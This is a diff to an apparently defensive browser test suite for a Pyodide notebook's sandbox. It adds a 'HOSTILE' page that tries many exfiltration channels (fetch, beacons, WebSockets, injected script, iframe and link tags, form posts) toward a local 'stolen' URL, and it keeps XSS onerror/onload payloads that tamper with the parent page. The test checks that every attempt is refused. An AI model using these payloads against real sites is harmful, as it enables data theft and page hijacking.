@@ -6,9 +6,11 @@ It needs Pyodide, the package of npm, and Node.
 import json
 import shutil
 from collections.abc import Callable, Iterator
+from contextlib import suppress
 from hashlib import sha256
 from itertools import chain
 from pathlib import Path
+from socket import create_server, socket
 from types import SimpleNamespace
 from typing import Any
 from zipfile import ZipFile
@@ -246,7 +248,7 @@ def tried(what):
         print("refused")
 asked = js.XMLHttpRequest.new()
 asked.open("GET", "{there}", False)
-js.WebSocket.new("ws://127.0.0.1:9/")
+js.WebSocket.new("{there}".replace("http", "ws"))
 tried(asked.send)
 tried(lambda: js.indexedDB.open("notebooks"))
 tried(lambda: js.eval("import('{there}?import')"))
@@ -255,28 +257,96 @@ import viz.drawing.svg, chainrule.live.showing as showing
 change = "parent.code.value = 1"
 html = f"<img src='{there}?img' onerror='{{change}}'><svg onload='{{change}}'></svg>"
 showing.KINDS["graph"] = lambda run, room: dict(html=html + "seen <a href='{there}'>so</a>")
-page = "<script>location = '{there}?away'; top.code.value = 1</script>"
-showing.KINDS["steps"] = lambda run, room: dict(page=page, title="x", computes=False)
+showing.KINDS["steps"] = lambda run, room: dict(page={page!r}, title="x", computes=False)
 from autograd import Value
 y = Value(1.0)
 """
+HOSTILE = """<!DOCTYPE html><p id="ran"></p><script>
+const there = "{there}";
+const add = (name, how) => new Promise((settle) => {{
+  const element = Object.assign(document.createElement(name), how);
+  element.onload = element.onerror = settle;
+  document.head.append(element);
+}});
+const sent = (way) => new Promise((settle) => {{
+  const request = new XMLHttpRequest();
+  request.onloadend = settle;
+  request.open(way, there);
+  request.send("x");
+}});
+const tries = [
+  () => fetch(there), () => fetch(there, {{ method: "POST", mode: "no-cors", body: "x" }}),
+  () => sent("GET"), () => sent("POST"),
+  () => navigator.sendBeacon(there, "x"),
+  () => new Promise((settle) => {{ new WebSocket(there.replace("http", "ws")).onerror = settle; }}),
+  () => new Promise((settle) => {{ new EventSource(there).onerror = settle; }}),
+  () => import(there + "?import"),
+  () => add("img", {{ src: there }}), () => add("script", {{ src: there }}),
+  () => add("iframe", {{ src: there }}), () => add("object", {{ data: there }}),
+  ...["stylesheet", "prefetch", "preload", "dns-prefetch", "modulepreload"]
+    .map((rel) => () => add("link", {{ rel, href: there, as: "script" }})),
+  () => new Promise((settle) => {{
+    const frame = document.createElement("iframe");
+    frame.srcdoc = `<script>fetch("${{there}}")<\\/script>`;
+    frame.onload = settle;
+    document.head.append(frame);
+  }}),
+  () => {{
+    const form = document.createElement("form");
+    Object.assign(form, {{ action: there, method: "post" }});
+    document.body.append(form);
+    form.submit();
+  }},
+  () => {{ open(there); }},
+  () => {{ top.code.value = 1; }},
+];
+(async () => {{
+  const waited = () => new Promise((settle) => setTimeout(settle, 500));
+  for (const one of tries) await Promise.race([(async () => one())().catch(() => {{}}), waited()]);
+  const ran = document.getElementById("ran");
+  ran.textContent = "ran to its end";
+  ran.onclick = () => {{ location = there; }};
+}})();
+</script>"""
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[socket]:
+    """Where nobody is to call."""
+    with create_server(("127.0.0.1", 0)) as listening:
+        listening.setblocking(False)
+        yield listening
+
+
+def heard(listening: socket) -> bytes:
+    """What was said there by now; nothing where somebody opened a line and said nothing."""
+    said = b""
+    with suppress(BlockingIOError):
+        while True:
+            line, _ = listening.accept()
+            line.settimeout(0.2)
+            with line, suppress(TimeoutError):
+                said += line.recv(1000)
+    return said
 
 
 def test_a_strangers_code_reaches_neither_the_network_nor_the_page(
-    context: Any, address: str, server: Served
+    context: Any, address: str, elsewhere: socket
 ) -> None:
-    there = address.replace("/live/", "/pyodide/stolen")
+    there = f"http://127.0.0.1:{elsewhere.getsockname()[1]}/stolen"
     stranger = Live(context.new_page(), address)
     stranger.shows("y, a graph of 6 nodes")
-    stranger.open(ATTACK.format(there=there))
+    stranger.open(ATTACK.format(there=there, page=HOSTILE.format(there=there)))
     stranger.sees("seen so")
     assert stranger.page.inner_text("#printed").splitlines() == ["refused"] * 4
     stranger.page.click("#tab-steps")
-    stranger.page.locator("#frames iframe >> nth=1").wait_for()
-    stranger.page.wait_for_timeout(500)
+    ran = stranger.steps.locator("#ran", has_text="ran to its end")
+    ran.wait_for(timeout=PATIENCE)
+    ran.click()
+    ran.wait_for(state="detached")  # where it went it found nothing
     assert stranger.code.startswith("import js")
     assert any("stolen" in request for request in stranger.requests)  # it was tried, and refused:
-    assert not any("stolen" in path for path in server.asked)
+    assert heard(elsewhere) == b""
     stranger.page.close()
 
 
